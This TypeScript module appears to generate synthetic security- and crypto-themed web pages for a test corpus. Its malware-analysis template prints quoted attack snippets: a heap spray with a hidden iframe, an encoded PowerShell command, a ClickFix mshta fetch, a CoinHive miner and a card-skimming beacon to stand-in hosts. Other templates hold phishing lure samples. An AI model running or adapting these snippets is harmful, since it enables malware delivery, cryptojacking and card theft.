/** Pages about fraud and about secrets: articles, trainings, password managers, crypto currencies. */
import { article, bare, css, logo, script, site, teasers, times } from '../layout.ts';
import { type Builders, pages } from '../spot.ts';
import { bundle, fresh } from '../vendors-new.ts';
import { old } from '../vendors-old.ts';

const quoted = (text: string) => `<pre>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</pre>`;

export const security: Builders = {
  'article-on-phishing': pages(
    `en https://www.consumerlantern.org/scams/parcel-texts Parcel text scams explained
    de https://www.verbraucherblick.de/warnung/falsche-paket-sms Falsche Paket-SMS
    fr https://www.consommateurs-avertis.fr/arnaques/colis Arnaque au colis
    es https://www.alertaconsumo.es/estafas/paquete Estafa del paquete
    it https://www.consumatori-attenti.it/truffe/pacco La truffa del pacco
    ja https://www.shohisha-navi.jp/scam/parcel 不在通知の偽メール`,
    (s) =>
      site(s, {
        era: s.r.pick(['semantic', 'bootstrap']),
        title: s.name,
        early: [fresh.cookiebot(s), fresh.gtm(s)],
        main: `<article><h1>${s.name}</h1><p>${s.say(3)}</p><blockquote>${s.w.parcel} ${s.w.fee} ${s.w.deadline}</blockquote><figure><img src="/img/fake-dhl-form.png" alt="${s.w.card}, ${s.w.cvc}"><figcaption>${s.w.wrong}</figcaption></figure><p>${s.say(4)}</p><blockquote>"${s.w.alert} ${s.w.confirm}" – PayPal, Netflix, Amazon, Microsoft</blockquote><p>${s.say(3)} <code>hxxps://dhl-paket[.]example/verify</code></p></article>`,
        late: [fresh.vitals(s), old.disqus(s)],
      }),
  ),
  'article-on-giveaways': pages(
    `en https://www.coinskeptic.net/elon-musk-giveaway-scams Why every Musk Bitcoin giveaway is a scam
    de https://www.krypto-nuechtern.de/gewinnspiel-betrug Send 1 BTC, get 2 BTC? Betrug
    pt https://www.investidorlucido.com.br/golpe-sorteio O golpe do sorteio de Bitcoin`,
    (s) =>
      site(s, {
        era: 'semantic',
        title: s.name,
        early: [fresh.ga4(s), fresh.gpt(s)],
        main: `<article><h1>${s.name}</h1><p>${s.say(3)}</p><p>The scam page promises: "To verify your address send between 0.1 and 20 BTC and get double back immediately." Address used: <code>bc1q${s.r.hex(38)}</code></p><p>${s.say(4)}</p><p>Never enter your 12-word recovery phrase on any web page.</p></article>`,
        late: [fresh.cookieBanner(s), fresh.push(s)],
      }),
  ),
  'malware-analysis-blog': pages(
    `en https://blog.quietpacket.org/2014/angler-landing-page Dissecting a landing page
    en https://research.hexlantern.io/clickfix-campaign A ClickFix campaign in detail
    fr https://www.laboratoire-sonde.fr/blog/skimmer Analyse d'un skimmer
    de https://www.schadcode-labor.de/blog/coinminer Coinminer im Browser`,
    (s) =>
      site(s, {
        era: 'bootstrap',
        title: s.name,
        main: `<article><h1>${s.name}</h1><p>${s.say(2)}</p>${quoted(`var p=unescape("%u0c0c%u0c0c");while(p.length<0x40000)p+=p;\ntry{new ActiveXObject("ShockwaveFlash.ShockwaveFlash")}catch(e){}\ndocument.write('<iframe src="http://gate.example/in.php" width=1 height=1></iframe>')`)}<p>${s.say(3)}</p>${quoted('powershell -w hidden -enc SQBFAFgA...\nmshta https://verify.example/captcha.mp4 # I am not a robot')}<p>Press Win+R, then Ctrl+V, the page says. ${s.say(2)}</p>${quoted(`var miner=new CoinHive.Anonymous('SITE_KEY',{throttle:0.3});miner.start();\nnew Image().src="https://stat.example/i.gif?d="+btoa(JSON.stringify(card))`)}<h2>Indicators</h2><ul>${times(8, () => `<li>${s.r.hex(64)}</li>`)}</ul></article>`,
        late: [fresh.matomo(s), old.disqus(s)],
      }),
  ),
  'security-training': pages(
    `en https://learn.clearheadsecurity.com/landing/oops You clicked a simulated phishing email
    de https://awareness.firma-sommer.de/hinweis Das war eine Phishing-Übung
    nl https://training.veiligklikken.nl/quiz Herken jij phishing?`,
    (s) =>
      site(s, {
        era: 'utility',
        title: s.name,
        main: `<h1>${s.name}</h1><p>${s.say(3)}</p><div class="mail"><p><b>Microsoft 365</b> &lt;security@rnicrosoft-login.example&gt;</p><p>${s.w.alert} ${s.w.confirm}</p><span class="hint">1</span></div><form id="quiz">${times(5, (n) => `<fieldset><legend>${s.say()}</legend><label><input type="radio" name="q${n}" value="1"> phishing</label><label><input type="radio" name="q${n}" value="0"> OK</label></fieldset>`)}<button>${s.w.next}</button></form>`,
        late: [
          script(
            'quiz.onsubmit=e=>{e.preventDefault();const n=[...new FormData(quiz).values()].filter(v=>v==="1").length;fetch("/api/result",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({n})}).then(()=>location="/done")};',
          ),
          script(bundle(s, 8)),
        ],
      }),
  ),
  'password-manager': pages(
    `en https://www.keylantern.com/ Keylantern password manager
    de https://www.schluesselbund-app.de/ Schlüsselbund
    fr https://www.coffremots.fr/ Coffremots
    en https://www.keylantern.com/password-generator Password generator`,
    (s) =>
      site(s, {
        era: 'utility',
        title: s.name,
        early: [fresh.segment(s), fresh.optimizely(s)],
        main: `<h1>${s.name}</h1><p>${s.say(3)} Your master password and recovery key never leave your device.</p><input id="out" readonly><input id="len" type="range" min="8" max="64" value="20"><button id="gen">↻</button><label>Strength of ${s.w.password}<input type="password" id="test"></label><meter id="m" max="100"></meter>${teasers(s, 3)}`,
        late: [
          script(
            'const A="abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#$%&*";function g(){const r=crypto.getRandomValues(new Uint32Array(+len.value));out.value=Array.from(r,x=>A[x%A.length]).join("")}gen.onclick=g;len.oninput=g;g();test.addEventListener("keyup",()=>{let s=0,p=test.value;s+=Math.min(60,p.length*4);/[A-Z]/.test(p)&&(s+=10);/\\d/.test(p)&&(s+=10);/\\W/.test(p)&&(s+=20);m.value=s});',
          ),
          fresh.intercom(s),
        ],
      }),
  ),
  'breach-checker': pages(
    `en https://www.wasitleaked.org/ Was it leaked?
    de https://leak-pruefung.hs-lahntal.de/ Leak-Prüfung
    es https://www.comprobarfiltracion.es/ Comprobar filtración`,
    (s) =>
      site(s, {
        era: 'bootstrap',
        main: `<h1>${s.name}</h1><p>${s.say(2)}</p><form id="f"><input type="password" id="p" autocomplete="off" placeholder="${s.w.password}"><button>${s.w.search}</button></form><output></output>`,
        late: [
          script(
            'f.onsubmit=async e=>{e.preventDefault();const h=[...new Uint8Array(await crypto.subtle.digest("SHA-1",new TextEncoder().encode(p.value)))].map(b=>b.toString(16).padStart(2,"0")).join("").toUpperCase();const t=await(await fetch("https://api.pwnedpasswords.com/range/"+h.slice(0,5))).text();document.querySelector("output").textContent=(t.split("\\n").find(l=>l.startsWith(h.slice(5)))||":0").split(":")[1]};',
          ),
          fresh.matomo(s),
        ],
      }),
  ),
  'capture-the-flag': pages(
    `en https://ctf.midnightbits.org/challenges/web/3 CTF: leaky cookies
    de https://hackit.informatik-treff.de/level/4 Level 4
    zh https://ctf.lanqiao-sec.cn/web/7 Web 第七题`,
    (s) =>
      site(s, {
        era: 'utility',
        title: s.name,
        main: `<h1>${s.name}</h1><p>${s.say(2)}</p><form action="/check" method="post"><input name="flag" placeholder="flag{...}"><input type="password" name="key"><button>${s.w.next}</button></form><!-- ${s.r.base64(60)} --><p hidden id="h">${s.r.hex(64)}</p>`,
        late: [
          script(
            `var _$=["\\x66\\x6c\\x61\\x67","length","charCodeAt","${s.r.hex(24)}"];function c(k){var o="";for(var i=0;i<k[_$[1]];i++)o+=String.fromCharCode(k[_$[2]](i)^0x1f);return o===_$[3]}document.forms[0].onsubmit=function(){return c(this.key.value)||confirm("?")};`,
          ),
          script(bundle(s, 8)),
        ],
      }),
  ),
  'crypto-explorer': pages(
    `en https://www.chainlantern.io/tx/0x9f3a Chainlantern explorer
    zh https://www.lianshan-scan.com/address/0x81 链山浏览器
    ru https://www.blokoskop.ru/block/8812 Блокоскоп`,
    (s) =>
      site(s, {
        era: 'bootstrap',
        title: s.name,
        early: [fresh.ga4(s)],
        main: `<form action="/search"><input name="q" placeholder="Address / Txn Hash / Block / Token"></form><table>${times(18, () => `<tr><td><a href="/tx/0x${s.r.hex(64)}">0x${s.r.hex(12)}…</a></td><td>0x${s.r.hex(40)}</td><td>${s.r.int(0, 40)}.${s.r.digits(4)} ETH</td><td>approve</td></tr>`)}</table><textarea readonly>0x095ea7b3${s.r.hex(128)}</textarea>`,
        late: [
          script(
            'async function connect(){if(!window.ethereum)return alert("No wallet found");const a=await ethereum.request({method:"eth_requestAccounts"});document.querySelector("#acc").textContent=a[0]}document.querySelectorAll("[data-copy]").forEach(b=>b.onclick=()=>navigator.clipboard.writeText(b.dataset.copy));',
          ),
          fresh.cloudflare(s),
        ],
      }),
  ),
  'crypto-exchange-app': pages(
    `en https://app.meadowswap.finance/ Meadowswap
    en https://stake.tidepool.network/ Tidepool staking
    zh https://app.songshu-defi.io/ 松鼠 DeFi
    tr https://app.bozkirswap.io/ Bozkır Swap`,
    (s) =>
      bare(
        s,
        s.name,
        `<style>${css(s, 24)}</style><script type="module" src="https://cdn.jsdelivr.net/npm/ethers@6.8.0/dist/ethers.min.js"></script>`,
        `<div id="root"><button id="connect">Connect Wallet</button><div class="modal"><button data-w="injected">MetaMask</button><button data-w="wc">WalletConnect</button><button data-w="cb">Coinbase Wallet</button></div><input placeholder="0.0"><button id="swap" disabled>Swap</button><p>${s.say(3)}</p></div>${script(
          `const ROUTER="0x${s.r.hex(40)}",TOKEN="0x${s.r.hex(40)}",ABI=["function approve(address spender,uint256 value) returns (bool)","function swapExactTokensForTokens(uint256,uint256,address[],address,uint256)","function setApprovalForAll(address,bool)"];document.querySelector("#connect").onclick=async()=>{const p=new ethers.BrowserProvider(window.ethereum);await p.send("eth_requestAccounts",[]);const{chainId}=await p.getNetwork();if(chainId!==1n)await p.send("wallet_switchEthereumChain",[{chainId:"0x1"}]);const s=await p.getSigner();document.querySelector("#connect").textContent=(await s.getAddress()).slice(0,8);document.querySelector("#swap").disabled=false;document.querySelector("#swap").onclick=async()=>{const v=ethers.parseUnits(document.querySelector("input").value||"0",18);await(await new ethers.Contract(TOKEN,ABI,s).approve(ROUTER,v)).wait()}};`,
          'type="module"',
        )}${script(bundle(s, 12))}`,
      ),
  ),
  'wallet-maker': pages(
    `en https://www.pinecone-wallet.com/ Pinecone Wallet
    de https://www.kieselwallet.de/sicherheit Kieselwallet
    es https://www.carteraolivo.com/ Cartera Olivo`,
    (s) =>
      site(s, {
        era: 'utility',
        early: [fresh.ga4(s), fresh.linkedIn(s)],
        main: `<h1>${s.name}</h1><p>${s.say(3)} Write down your 24-word recovery phrase on paper. We never ask for your seed phrase. Anyone who asks for it wants to steal your coins.</p><a href="https://chrome.google.com/webstore/detail/${s.r.text('abcdefghijklmnop', 32)}">Add to Chrome</a><a href="/download/pinecone-2.4.1-setup.exe" data-sha="${s.r.hex(64)}">Windows</a><a href="/download/pinecone-2.4.1.dmg">macOS</a>${teasers(s, 4)}`,
        late: [fresh.cookieBanner(s)],
      }),
  ),
  'coin-prices': pages(
    `en https://www.tickerpond.com/coins/ Tickerpond
    de https://www.kursweide.de/krypto Kursweide
    ja https://www.coin-souba.jp/ コイン相場`,
    (s) =>
      site(s, {
        era: 'semantic',
        early: [fresh.prebid(s), fresh.gpt(s)],
        main: `<table>${times(25, () => `<tr><td>${s.r.text('ABCDEFGHKLMNOPRSTUVX', 3)}</td><td>${s.r.int(1, 60000)}.${s.r.digits(2)}</td><td>${s.r.int(-20, 20)} %</td><td data-spark="${times(24, () => String(s.r.int(1, 99)), ',')}"></td></tr>`)}</table>`,
        late: [
          script(
            `const ws=new WebSocket("wss://stream.${s.host}/v1");ws.onopen=()=>ws.send(JSON.stringify({op:"subscribe",pairs:["BTC-EUR","ETH-EUR"]}));ws.onmessage=e=>{const d=JSON.parse(e.data);const c=document.querySelector('[data-pair="'+d.p+'"]');c&&(c.textContent=d.v)};`,
          ),
          fresh.push(s),
        ],
      }),
  ),
  'mnemonic-tool': pages(
    `en https://mnemonic.opentools.dev/ Mnemonic converter (works offline)
    en https://bip39-lab.github.io/ BIP39 lab`,
    (s) =>
      bare(
        s,
        s.name,
        `<style>${css(s, 18)}</style>`,
        `<h1>${s.name}</h1><p>You can use this page offline: save it, disconnect, then open the file. Nothing is sent anywhere.</p><button id="gen">Generate 12 words</button><label>BIP39 mnemonic<textarea id="phrase" autocomplete="off" spellcheck="false"></textarea></label><table id="addresses"></table>${script(`const W="${s.r.some('abandon ability able about above absent absorb abstract absurd abuse access accident account accuse achieve acid acoustic acquire across act action actor actress actual adapt add addict address adjust admit'.split(' '), 30).join(' ')}".split(" ");gen.onclick=()=>{phrase.value=Array.from(crypto.getRandomValues(new Uint16Array(12)),n=>W[n%W.length]).join(" ")};phrase.oninput=async()=>{const k=await crypto.subtle.importKey("raw",new TextEncoder().encode(phrase.value.normalize("NFKD")),"PBKDF2",false,["deriveBits"]);addresses.textContent=[...new Uint8Array(await crypto.subtle.deriveBits({name:"PBKDF2",hash:"SHA-512",salt:new TextEncoder().encode("mnemonic"),iterations:2048},k,512))].join("")};`)}${script(bundle(s, 10))}<footer>MIT licence · ${logo(s, 'source')}</footer>`,
      ),
  ),
  'browser-support-page': pages(
    `en https://www.softwarefield.org/help/clear-your-cache Clear your cache and update your browser
    de https://hilfe.freinetz.de/browser-aktualisieren Browser aktualisieren
    fr https://aide.campus-ardent.fr/navigateur Mettre à jour le navigateur`,
    (s) =>
      site(s, {
        era: 'bootstrap',
        title: s.name,
        main: `${article(s, 2)}<ol><li>Press <kbd>Win</kbd>+<kbd>R</kbd>, type <code>control</code>, press <kbd>Enter</kbd>.</li><li>Chrome: Menu → Help → About Google Chrome.</li><li>Remove Flash Player.</li></ol><p>Microsoft never shows a phone number in a virus warning. ${s.say(2)}</p>`,
        late: [fresh.matomo(s)],
      }),
  ),
};
